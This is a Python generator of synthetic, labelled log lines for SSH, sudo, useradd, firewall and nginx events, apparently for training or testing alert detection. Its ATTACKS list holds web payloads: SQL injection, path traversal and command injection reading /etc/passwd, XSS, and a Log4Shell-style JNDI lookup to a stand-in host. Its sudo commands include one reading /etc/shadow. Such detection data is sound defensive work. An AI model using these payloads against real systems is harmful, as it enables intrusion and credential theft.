"""Lines of system logs with the alert that each gives; four in ten give none.

The lines have the forms of OpenSSH, sudo, useradd, Linux's netfilter log and nginx's combined log; hosts and users are made
up, addresses are those kept for documentation (RFC 5737) or private ones (RFC 1918). Techniques are MITRE ATT&CK's.
"""

from __future__ import annotations

import datetime
import random
from typing import Any

from scripts.make.cases import Row, distinct

ROWS, SEED = 1200, 17
HOSTS = tuple(
    f"{site}-{role}{n}" for site in ("hz", "lon", "sfo") for role in ("web", "db", "app", "vpn") for n in (1, 2, 3, 4)
)
USERS = (
    "root",
    "admin",
    "backup",
    "liwei",
    "mchen",
    "jsmith",
    "deploy",
    "oracle",
    "postgres",
    "zhangy",
    "guest",
    "svc_scan",
)
PAGES = ("/", "/login", "/static/app.js", "/api/v1/orders?page=2", "/news/2026/03", "/favicon.ico", "/search?q=pump")
ATTACKS = (
    "/index.php?id=1%27%20OR%201=1--", "/download?file=../../../../etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/cgi-bin/test?x=;cat%20/etc/passwd", "/api?u=${jndi:ldap://198.51.100.9/a}", "/item?id=9%20UNION%20SELECT%201,2,3",
)  # fmt: skip
AGENTS = ("Mozilla/5.0", "curl/8.5.0", "python-requests/2.31", "okhttp/4.12")
COMMANDS = ("/usr/bin/systemctl restart nginx", "/bin/cat /etc/shadow", "/usr/bin/apt update", "/usr/sbin/visudo")
Found = tuple[str, dict[str, Any] | None]  # the line after time and host (nginx: whole), and the alert


def address(rng: random.Random) -> tuple[str, bool]:
    """An address and whether it is from outside."""
    if rng.random() < 0.5:
        return f"{rng.choice(('198.51.100', '203.0.113'))}.{rng.randint(1, 254)}", True
    return f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", False


def alert(event: str, technique: str, severity: str, source: str | None, user: str | None) -> dict[str, Any]:
    return {"event": event, "technique": technique, "severity": severity, "source": source, "user": user}


def failed_login(rng: random.Random) -> Found:
    """Brute force (T1110): medium from outside, low from inside."""
    (source, outside), user = address(rng), rng.choice(USERS)
    known = "" if rng.random() < 0.6 else "invalid user "
    line = f"Failed password for {known}{user} from {source} port {rng.randint(1024, 65000)} ssh2"
    return _sshd(rng, line), alert("failed_login", "T1110", "medium" if outside else "low", source, user)


def login(rng: random.Random) -> Found:
    """Valid accounts (T1078) by password from outside: high for root, else medium. With a key, or from inside: nothing."""
    (source, outside), user = address(rng), rng.choice(USERS)
    way = rng.choice(("password", "publickey"))
    line = _sshd(rng, f"Accepted {way} for {user} from {source} port {rng.randint(1024, 65000)} ssh2")
    if not outside or way == "publickey":
        return line, None
    return line, alert("login_from_outside", "T1078", "high" if user == "root" else "medium", source, user)


def sudo(rng: random.Random) -> Found:
    """Sudo refused (T1548.003): medium. Sudo granted: nothing."""
    user, refused = rng.choice(USERS[1:]), rng.random() < 0.5
    why = "user NOT in sudoers ; " if refused else ""
    line = f"sudo: {user} : {why}TTY=pts/{rng.randint(0, 9)} ; PWD=/home/{user} ; USER=root ; COMMAND={rng.choice(COMMANDS)}"
    return line, alert("sudo_denied", "T1548.003", "medium", None, user) if refused else None


def new_user(rng: random.Random) -> Found:
    """A local account made (T1136.001): high with user number 0, else medium."""
    user, number = rng.choice(USERS[1:]), rng.choice((0, rng.randint(1000, 1060), rng.randint(1000, 1060)))
    line = f"useradd[{rng.randint(300, 32000)}]: new user: name={user}, UID={number}, GID={number}, home=/home/{user}"
    return line, alert("account_created", "T1136.001", "medium" if number else "high", None, user)


def blocked(rng: random.Random) -> Found:
    """Service discovery (T1046) stopped by the firewall: low. What is let through: nothing."""
    (source, _), port = address(rng), rng.choice((22, 23, 445, 1433, 3306, 3389, 5900, 6379, 9200))
    stopped = rng.random() < 0.6
    ports = f"PROTO=TCP SPT={rng.randint(1024, 65000)} DPT={port} SYN"
    verdict = "BLOCK" if stopped else "ALLOW"
    line = f"kernel: [UFW {verdict}] IN=eth0 OUT= SRC={source} DST=10.0.0.{rng.randint(2, 250)} LEN=60 TTL=52 {ports}"
    return line, alert("connection_blocked", "T1046", "low", source, None) if stopped else None


def web(rng: random.Random) -> Found:
    """An attack on a public application (T1190): high where the server answered 200, else medium. Other requests: nothing."""
    (source, _), hostile = address(rng), rng.random() < 0.5
    page, status = rng.choice(ATTACKS if hostile else PAGES), rng.choice((200, 200, 403, 404, 500))
    line = f'nginx: {source} - - "GET {page} HTTP/1.1" {status} {rng.randint(120, 9000)} "-" "{rng.choice(AGENTS)}"'
    return line, alert("web_attack", "T1190", "high" if status == 200 else "medium", source, None) if hostile else None


def _sshd(rng: random.Random, message: str) -> str:
    return f"sshd[{rng.randint(300, 32000)}]: {message}"


KINDS = (failed_login, login, login, sudo, new_user, blocked, web, web)


def drawn(rng: random.Random, _language: str) -> Row:
    line, found = rng.choice(KINDS)(rng)
    host = rng.choice(HOSTS)
    when = datetime.datetime(2026, 1, 1) + datetime.timedelta(seconds=rng.randrange(300 * 86400))
    return {"host": host, "line": f"{when:%b %d %H:%M:%S} {host} {line}", "alert": found}


def make(rows: int, seed: int) -> list[Row]:
    return distinct(drawn, rows, seed)
